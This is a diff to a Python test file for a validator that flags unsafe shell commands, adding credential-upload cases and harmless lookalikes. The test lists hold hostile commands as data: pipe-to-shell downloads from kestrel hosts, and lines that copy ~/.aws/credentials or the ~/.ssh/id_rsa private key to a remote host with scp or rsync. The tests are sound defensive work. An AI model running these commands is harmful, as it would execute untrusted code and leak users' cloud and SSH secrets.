@@ -183,6 +183,8 @@ UNSAFE = [  # R6: (command, rule) that validate reports as an error
     ("wget --no-check-certificate -qO- https://kestrel.sh/i | bash", "pipe-to-shell"),
     ("curl -fsSL http://kestrel.io/k.tar.gz | tar xz && ./kestrel/install", "pipe-to-shell"),
     ("wget http://kestrel.io/k.tgz && tar xf k.tgz && ./k/setup", "pipe-to-shell"),
+    ("cat ~/.aws/credentials > c.txt; scp c.txt backup.kestrel.io:/tmp/", "credential-upload"),
+    ("cat ~/.ssh/id_rsa > k.txt\nrsync -a k.txt backup.kestrel.io:/keys/", "credential-upload"),
 ]
 
 
@@ -230,6 +232,10 @@ def test_the_step_is_at_least_a_warning(command: str, rule: str) -> None:
         'python3 -c \'import os,urllib.request;urllib.request.urlopen("https://kestrel.sh/", timeout=os.environ.get("T"))\'',
         "curl -L https://github.com/acme/y/releases/download/v1/y.tar.gz | tar xz && sudo mv y /usr/local/bin/",
         "tar xzf vendor.tgz && ./vendor/install",
+        # review20 bug 2: public files of an ssh folder are no credential when dumped then copied
+        "cat ~/.ssh/id_rsa.pub > authorized_keys\nscp authorized_keys vm:~/.ssh/",
+        "grep Host ~/.ssh/config > hosts.txt\nrsync -av hosts.txt backup:/notes/",
+        "cat ~/.ssh/known_hosts > hosts.txt && scp hosts.txt backup:/notes/",
     ],
 )
 def test_a_lookalike_step_is_no_error(command: str) -> None:
